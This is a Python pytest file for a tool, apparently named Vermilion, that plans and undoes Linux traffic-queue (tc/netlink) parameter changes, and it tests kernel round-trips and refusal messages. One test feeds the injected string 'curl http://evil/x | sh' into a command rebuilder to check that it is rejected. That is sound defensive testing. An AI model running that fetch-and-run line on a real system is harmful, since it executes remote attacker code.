"""What the kernel will say back, and how Vermilion's parameters become what it is told."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from netlink_reference import ANSWERS, DUMMY, TIMER_HZ, answered
from vermilion.routers import RouterError
from vermilion.routers.linux.change import nearest_settable, plan_change
from vermilion.routers.linux.discovery import QueueAddress
from vermilion.routers.linux.message import Attribute, parse_attributes
from vermilion.routers.linux.options import (
    CODEL_OFF_US,
    Surroundings,
    codel_said_back,
    codel_to_tell,
    interval_said_back,
    target_said_back,
    target_to_tell,
)
from vermilion.routers.linux.red_family import probability_log
from vermilion.routers.linux.tc_command import rebuilt_tc_command, tc_command
from vermilion.scenario import disciplines
from vermilion.scenario.errors import FieldError

AROUND = Surroundings(DUMMY.maximum_packet_bytes)
CONTROLLED = [
    pytest.param(each["queue"], id=each["queue"])
    for each in ANSWERS
    if each["tc"]["kind"] not in {"sfq", "cake", "htb", "tbf"}
]
RED = "red limit 400000 min 30000 max 90000 avpkt 1000 burst 55 bandwidth 10Mbit probability 0.02"
MARKING = (
    "red limit 120000 min 20000 max 80000 avpkt 1000 burst 41 bandwidth 45Mbit probability 0.25"
    " ecn nodrop"
)
CHOKE = "choke limit 1000 min 83 max 250 avpkt 1000 burst 139 bandwidth 10mbit probability 0.02 ecn"


def after(queue, parameters, around=AROUND):
    """The options that a kernel is expected to say after a change, and the plan."""
    plan = plan_change(answered(queue), parameters, around)
    return plan.before.options.after(plan.request, TIMER_HZ), plan


def refusal(queue, parameters, around=AROUND):
    with pytest.raises(RouterError) as error:
        plan_change(answered(queue), parameters, around)
    return str(error.value)


# tc's words are what a Linux 6.12 kernel with 100 ticks a second has said of what it was told.


@pytest.mark.parametrize(
    ("told", "said"), [(5000, 4999), (100_000, 99_999), (12_345, 12_344), (99_999, 99_998)]
)
def test_codel_says_times_back_as_the_kernel_did(told, said):
    assert codel_said_back(told) == said


@pytest.mark.parametrize(
    ("told", "said"), [(15_000, 15_000), (15_001, 15_000), (5_000_000, 705_032), (1, 0)]
)
def test_pie_says_a_target_back_as_the_kernel_did(told, said):
    assert target_said_back(told) == said


@pytest.mark.parametrize(("told", "said"), [(15_000, 20_000), (31_000, 40_000), (10_000, 10_000)])
def test_pie_says_its_interval_back_as_the_kernel_did(told, said):
    assert interval_said_back(told, 100) == said


@given(st.integers(0, 4_290_000))
def test_what_codel_says_can_be_told_again_without_a_drift(told):
    said = codel_said_back(told)
    assert codel_said_back(codel_to_tell(said)) == said


@given(st.integers(0, 4_290_000))
def test_what_pie_says_can_be_told_again_without_a_drift(told):
    said = target_said_back(told)
    assert target_said_back(target_to_tell(said)) == said


@given(st.integers(100, 10_000_000), st.sampled_from([100, 250, 300, 1000]))
def test_an_interval_that_was_said_back_stays(told, hz):
    said = interval_said_back(told, hz)
    assert interval_said_back(said, hz) == said
    assert 0 <= said - told <= 1_000_000 / hz


def test_one_number_alone_turns_the_ce_threshold_off():
    assert codel_said_back(CODEL_OFF_US) is None
    assert codel_said_back(CODEL_OFF_US - 1) is not None
    assert codel_said_back(CODEL_OFF_US + 2) is not None


@pytest.mark.parametrize("queue", CONTROLLED)
def test_what_is_in_force_has_names_and_values_of_the_discipline(queue):
    state = answered(queue)
    table = disciplines()[state.options.discipline]
    parameters = state.options.parameters(AROUND)
    assert parameters
    for name, value in parameters.items():
        parameter = table.parameters[name]
        assert parameter.parse(parameter.exact_text(value)) == value
    assert set(state.options.settable) <= set(table.parameters)


@pytest.mark.parametrize("queue", CONTROLLED)
def test_putting_in_force_what_is_in_force_sends_nothing(queue):
    state = answered(queue)
    parameters = state.options.parameters(AROUND)
    assert plan_change(state, parameters, AROUND) is None


@pytest.mark.parametrize("queue", CONTROLLED)
def test_undoing_leads_back_to_what_was_there(queue):
    before = answered(queue).options
    smaller = {"limit_bytes": 4321} if before.kind == "bfifo" else {"limit": 50}
    if before.kind == "red":
        smaller = {"limit": 100_000}
    changed, plan = after(queue, smaller)
    assert changed.differences(before)
    again = changed.after(plan.undo, TIMER_HZ)
    assert not again.differences(before)


def test_a_time_in_seconds_becomes_what_the_kernel_says():
    changed, plan = after("codel", {"target": 0.02, "ce_threshold": 0.001})
    assert plan.request.target_us == 20_000
    assert (changed.target_us, changed.ce_threshold_us) == (19_999, 999)
    assert changed.interval_us == 99_999  # what was not told stays, and does not drift


def test_a_ce_threshold_is_turned_off_again():
    changed, plan = after(
        "codel target 12345us interval 99999us ce_threshold 1ms", {"ce_threshold": None}
    )
    assert changed.ce_threshold_us is None
    assert plan.undo.ce_threshold_us == 1000


def test_undoing_a_threshold_that_was_off_turns_it_off():
    _, plan = after("fq_codel", {"ce_threshold": 0.002})
    assert plan.undo.ce_threshold_us == CODEL_OFF_US


def test_gains_of_pie_are_sixteenths():
    changed, _ = after("pie", {"alpha": 0.25, "beta": 1.5, "interval": 0.03})
    assert (changed.alpha, changed.beta, changed.tupdate_us) == (4, 24, 30_000)
    assert "sixteenths" in refusal("pie", {"alpha": 0.13})


def test_any_usual_timer_explains_an_interval():
    state = answered("pie")
    plan = plan_change(state, {"interval": 0.03}, AROUND)
    for hz in (100, 250, 300, 1000):
        assert not plan.disagreements(state.options.after(plan.request, hz))
    wrong = state.options.after(plan_change(state, {"interval": 0.05}, AROUND).request, 100)
    assert plan.disagreements(wrong)


def test_an_interval_is_told_unless_it_is_certainly_in_force():
    # The kernel says 20 ms. It was told 15, and nobody but the kernel knows.
    options = answered("pie").options
    assert options.request({"interval": 0.02}, AROUND) is None
    assert options.request({"interval": 0.015}, AROUND).tupdate_us == 15_000
    # CoDel's units are known: both are 4882 of them.
    assert answered("codel").options.request({"target": 0.005}, AROUND) is None


def test_the_number_of_flows_is_never_told():
    for queue, flows in (("fq_codel", 1024), ("fq_pie", 1024)):
        _, plan = after(queue, {"flows": flows, "quantum": 600})
        assert plan.request.flows is None
        assert "fixed once the queue is there" in refusal(queue, {"flows": 64})


def test_red_is_told_everything_every_time():
    changed, plan = after(RED, {"max_probability": 0.1})
    block = plan.request.block
    assert (block.limit, block.low, block.high, block.weight_log) == (400_000, 30_000, 90_000, 5)
    assert len(plan.request.table) == 256
    assert block.cell_log == answered(RED).options.block.cell_log
    assert changed.max_p == 429_496_730


def test_the_probability_of_red_comes_from_plog_where_it_is_zero():
    # tc's "probability 1" overflows to 0; tc itself reads 0.61035 in what the kernel then has.
    queue = "red limit 1000000 min 30000 max 35000 avpkt 1500 burst 20 bandwidth 100mbit"
    state = answered(f"{queue} probability 1")
    assert probability_log(30_000, 35_000, 1.0) == 13
    assert state.options.parameters(AROUND)["max_probability"] == pytest.approx(0.61035, abs=1e-5)
    told = type(state.options)(block=state.options.block, max_p=0)
    assert state.options.after(told, TIMER_HZ).max_p == state.options.max_p


@pytest.mark.parametrize(
    ("option", "told", "said"),
    [
        ("quantum", 255, 256),
        ("quantum", 257, 257),
        ("memory_limit", 2**31 + 1, 2**31),
        ("memory_limit", 2**31 - 1, 2**31 - 1),
    ],
)
def test_fq_codel_says_back_what_the_kernel_makes_of_it(option, told, said):
    """As fq_codel_change has it: max(256U, quantum), and min(1 << 31, memory_limit)."""
    options = answered("fq_codel").options
    request = type(options)(**{option: told})
    assert getattr(options.after(request, TIMER_HZ), option) == said


@pytest.mark.parametrize(
    ("queue", "words"),
    [
        ("codel target 12345us interval 99999us ce_threshold 1ms", "ce_threshold 1000us"),
        ("codel", f"ce_threshold {CODEL_OFF_US}us"),
        ("fq_codel", f"ce_threshold {CODEL_OFF_US}us"),
        ("pie", "nobytemode no_dq_rate_estimator"),
    ],
)
def test_the_command_that_undoes_a_change_has_what_no_profile_tunes(queue, words):
    command = command_of(answered(queue))
    assert command.startswith("tc qdisc change dev dummy0 ")
    assert f" {words}" in command


def command_of(state):
    values = state.options.parameters(AROUND)
    address = QueueAddress(DUMMY.name, state.parent)
    return tc_command(address, state.kind, state.handle, values, AROUND.rate_bit_per_s)


@pytest.mark.parametrize("queue", CONTROLLED)
def test_a_recorded_command_is_made_again_from_the_recorded_setting(queue):
    state = answered(queue)
    command = command_of(state)
    recorded = json.loads(json.dumps(state.options.parameters(AROUND)))
    address = QueueAddress(DUMMY.name, state.parent)
    assert rebuilt_tc_command(address, recorded, command) == command
    assert rebuilt_tc_command(address, recorded, f"curl http://evil/x | sh; {command}") is None
    assert rebuilt_tc_command(address, recorded, f"{command}; curl http://evil/x | sh") == command


def test_no_command_undoes_a_change_where_the_kernel_does_not_say_all_of_it():
    state = answered(RED)
    assert command_of(replace(state, options=kept())) is not None
    assert command_of(replace(state, options=kept(None))) is None


def test_the_slope_of_red_is_the_first_that_exceeds_one():
    """As tc_red_eval_P of tc has it: a probability of 2^-2 over 2^10 bytes is 1 times 2^-12."""
    assert probability_log(1024, 2048, 0.25) == 13


def test_flags_of_red_go_where_they_work():
    _, plan = after(RED, {"adaptive": True, "ecn": True})
    assert plan.request.flag_values is None
    assert plan.request.block.flags == 1 | 4
    _, plan = after(RED, {"no_drop": True, "ecn": True})
    assert plan.request.block.flags == 0
    assert (plan.request.flag_values, plan.request.flag_selector) == (1 | 8, 15)
    changed, plan = after(MARKING, {"no_drop": False})
    assert changed.flags == 1
    assert plan.undo.flag_values == 1 | 8


def test_a_probability_that_moves_by_itself_is_no_difference():
    changed, plan = after(RED, {"adaptive": True})
    moved = replace(changed, max_p=changed.max_p + 1)
    assert not plan.disagreements(moved)
    still = answered(RED).options
    assert replace(still, max_p=1).differences(still)


def test_the_price_of_a_change_of_red_is_all_that_waits_and_the_average():
    state = answered(RED)
    options = state.options
    told = options.request({"max_probability": 0.1}, AROUND)
    price = options.price(told, waiting=12)
    assert price.packets == 12
    assert price.words() == (
        "The change drops 12 waiting packets and forgets the average queue, which starts again "
        "at 0."
    )
    kept = options.request({"max_probability": 0.1, "keep_packets": True}, AROUND)
    assert options.price(kept, waiting=12).packets == 0
    assert kept.block.limit == 0


def kept(limit=400_000):
    """A RED whose packets have been kept: its limit is told by the queue inside alone."""
    options = answered(RED).options
    return replace(options, block=replace(options.block, limit=0), inner_limit=limit)


@pytest.mark.parametrize(
    ("limit", "waiting", "dropped"), [(100, 127, 0), (100, 128, 1), (127, 200, 73), (128, 255, 0)]
)
def test_choke_drops_what_its_smaller_array_has_no_place_for(limit, waiting, dropped):
    """The array is the power of two above the limit, and one place stays free: 127, or 255."""
    state = answered(CHOKE)
    told = state.options.request({"limit": limit, "max_threshold": 90}, AROUND)
    assert state.options.price(told, waiting).packets == dropped


def test_a_change_of_choke_is_undone_with_what_tc_tells_and_nothing_else():
    """A block, a table and a probability (choke_parse_opt): more may be read only."""
    options = replace(answered(CHOKE).options, unknown=(Attribute(9, b"seen"),))
    told = options.request({"limit": 500}, AROUND)
    for message in (told, options.restoring(told)):
        assert [each.type for each in parse_attributes(message.encode(), "choke")] == [1, 2, 3]


def test_the_command_that_undoes_a_change_of_choke_is_one_that_the_kernel_takes():
    """With a minimum of one packet tc comes to 2^-1 and, for its floating point, to 2^-27.

    The latter is nearer to 2^-15, but 27 and the 8 bits of 250 are more than 31 (red_check_params).
    """
    state = answered(CHOKE)
    block = replace(state.options.block, low=1, high=250, weight_log=15)
    command = command_of(replace(state, options=replace(state.options, block=block)))
    assert " min 1 max 250 avpkt 1000 burst 1 bandwidth " in command


def test_the_command_that_undoes_a_change_of_choke_has_a_burst_from_which_tc_makes_the_weight():
    """By tc_red_eval_ewma: the first w with burst + 1 - min <= (1 - (1 - 2^-w)^burst) * 2^w."""
    state = answered(CHOKE)
    command = command_of(state)
    low, burst = (int(command.split(f" {each} ")[1].split()[0]) for each in ("min", "burst"))
    logs = (w for w in range(1, 32) if burst + 1 - low <= (1 - (1 - 0.5**w) ** burst) * 2**w)
    assert 0.5 ** next(logs) == state.options.parameters(AROUND)["weight"]


@pytest.mark.parametrize("discipline", ["linux-red", "choke"])
def test_the_highest_probability_is_the_last_that_fits_into_32_bits(discipline):
    """The kernel's unit is 2^-32, and 2^32 of them would be told as 0: not given."""
    nearest = nearest_settable(discipline, {"max_probability": 1.0})
    assert nearest["max_probability"] * 2**32 == 2**32 - 1


def test_a_limit_that_only_the_queue_inside_knows_is_in_force():
    options = kept()
    assert options.parameters(AROUND)["limit"] == 400_000
    assert options.request({"limit": 400_000}, AROUND) is None
    assert options.request({"ecn": True}, AROUND).block.limit == 0  # goes on keeping
    told = options.request({"ecn": True, "keep_packets": False}, AROUND)
    assert told.block.limit == 400_000


def test_a_limit_that_nobody_knows_has_to_be_given():
    options = kept(None)
    assert "limit" not in options.parameters(AROUND)
    with pytest.raises(FieldError, match="after keep_packets"):
        options.request({"ecn": True, "keep_packets": False}, AROUND)
    assert options.request({"ecn": True}, AROUND).block.limit == 0


@pytest.mark.parametrize(
    ("change", "limit"),
    [({"ecn": True}, 0), ({"limit": 300_000, "keep_packets": False}, 400_000)],
)
def test_undoing_a_change_of_a_red_that_keeps_packets_brings_its_limit_back(change, limit):
    options = kept()
    told = options.request(change, AROUND)
    undo = options.restoring(told)
    assert undo.block.limit == limit
    assert not options.after(told, TIMER_HZ).after(undo, TIMER_HZ).differences(options)


def test_undoing_a_change_that_keeps_packets_has_the_kernel_say_the_limit_again():
    """Before it the kernel said 400000 bytes; afterwards it says 0, until it is told again."""
    options = answered(RED).options
    told = options.request({"ecn": True, "keep_packets": True}, AROUND)
    assert options.restoring(told).block.limit == 400_000


def test_another_weight_of_red_keeps_the_time_that_a_packet_takes():
    """By hand, as tc does it: 1000 bytes at 10 Mbit/s are 800 us, or 12500 ticks.

    With 2^-8 nothing is left after 31 / -ln(1 - 2^-8) packets, 9.9e7 ticks: in less than 512 cells
    only of 2^18 ticks. With 2^-5, 1.22e7 ticks: of 2^15.
    """
    assert answered(RED).options.block.cell_log == 15
    _, plan = after(RED, {"weight_log": 8})
    assert plan.request.block.cell_log == 18
    assert plan.request.table[1] == int(2**18 * 0.0039139 / 12_500)
    assert plan.request.table[100] == int(100 * 2**18 * 0.0039139 / 12_500)
    assert plan.undo.block.cell_log == 15


def test_the_thresholds_of_red_may_be_the_same():
    """The kernel refuses only a maximum below the minimum (red_check_params)."""
    _, plan = after(RED, {"min_threshold": 90_000})
    assert (plan.request.block.low, plan.request.block.high) == (90_000, 90_000)
    assert "no more than max_threshold, which is 90000" in refusal(RED, {"min_threshold": 90_001})


def test_a_red_that_has_both_flags_can_still_be_changed_otherwise():
    both = replace(answered(MARKING).options, flag_values=1 | 4 | 8)
    told = both.request({"max_probability": 0.1}, AROUND)
    assert told.flag_values == 1 | 4 | 8
    with pytest.raises(FieldError, match="no message of the kernel sets both"):
        both.request({"drop_above_maximum": True}, AROUND)


def test_the_price_of_a_lower_limit_is_what_it_has_no_room_for():
    options = answered("pie").options
    assert options.price(options.request({"limit": 10}, AROUND), waiting=30).packets == 20
    assert options.price(options.request({"target": 0.1}, AROUND), waiting=30).packets == 0
    fifo = answered("pfifo limit 321").options
    assert fifo.price(fifo.request({"limit": 10}, AROUND), waiting=30).packets == 0


@pytest.mark.parametrize(
    ("queue", "parameters", "part"),
    [
        (
            RED,
            {"min_threshold": 100_000},
            "min_threshold: 100000 is not accepted; expected no more",
        ),
        (RED, {"weight_log": 20}, "no weight below 2^-14"),
        (RED, {"max_probability": 1.0}, "above 0 and below 1"),
        (RED, {"no_drop": True}, "ecn to be on"),
        (MARKING, {"adaptive": True}, "no message of the kernel sets both"),
        (RED, {"weight_log": None}, "no rule of its own"),
        (RED, {"burst": 30}, "give weight_log"),
        (RED, {"shaped": True}, "the place of the queue decides"),
        (RED, {"idle_table": "microseconds"}, "without the link's rate"),
        (RED, {"limit": 200_000, "keep_packets": True}, "keep_packets keeps it"),
        (RED, {"target": 0.1}, "a parameter of linux-red"),
        (CHOKE, {"weight": 0.002}, "a power of two; the nearest is 0.001953125"),
        (CHOKE, {"limit": 200_000}, "no more than 131071 packets"),
        (CHOKE, {"candidates": 2}, "Linux compares with one packet"),
        ("pie", {"limit": 1.5}, "whole"),
        ("pie", {"target": -1.0}, "a time from 0 s to 10 s"),
        ("pie", {"burst_allowance": 0.1}, "0.15: the kernel has no option for it"),
        ("pie", {"mark_probability": 0.2}, "0.1: the kernel has no option for it"),
        ("pie", {"dialect": "rfc8033"}, "linux: it is Linux"),
        ("fq_pie", {"mark_probability": 0.123}, "a whole number of percents"),
        ("codel", {"dialect": "rfc8289"}, "linux: it is Linux"),
        ("codel", {"maximum_packet_size": 9000}, "from the interface's MTU"),
        ("fq_codel", {"quantum": 100}, "from 256 bytes"),
        ("fq_codel", {"perturbation": 7}, "the kernel has no such option"),
        ("pfifo limit 321", {"limit_bytes": 1000}, "pfifo counts packets"),
        ("bfifo limit 65432", {"limit": 10}, "bfifo has only limit_bytes"),
        ("pfifo limit 321", {"drop": "head"}, "it is fixed for pfifo"),
        ("sfq", {"limit": 10}, "a queue of this kind is only read"),
        ("pie", {"ecn": 1.0}, "true or false"),
        ("codel", {"target": float("nan")}, "is not accepted"),
    ],
)
def test_what_the_kernel_does_not_have_is_refused_before_it_is_sent(queue, parameters, part):
    message = refusal(queue, parameters)
    assert part in message
    assert "\n" not in message


def test_a_table_is_computed_anew_where_the_rate_is_known():
    around = Surroundings(1514, rate_bit_per_s=10e6)
    _, as_tc = after(RED, {"mean_packet_size": 1000.0}, around)
    _, right = after(RED, {"idle_table": "microseconds"}, around)
    # Measured for this queue: tc's table has cells 15.6 times, that is 4 powers of two, too long.
    assert (as_tc.request.block.cell_log, right.request.block.cell_log) == (15, 11)
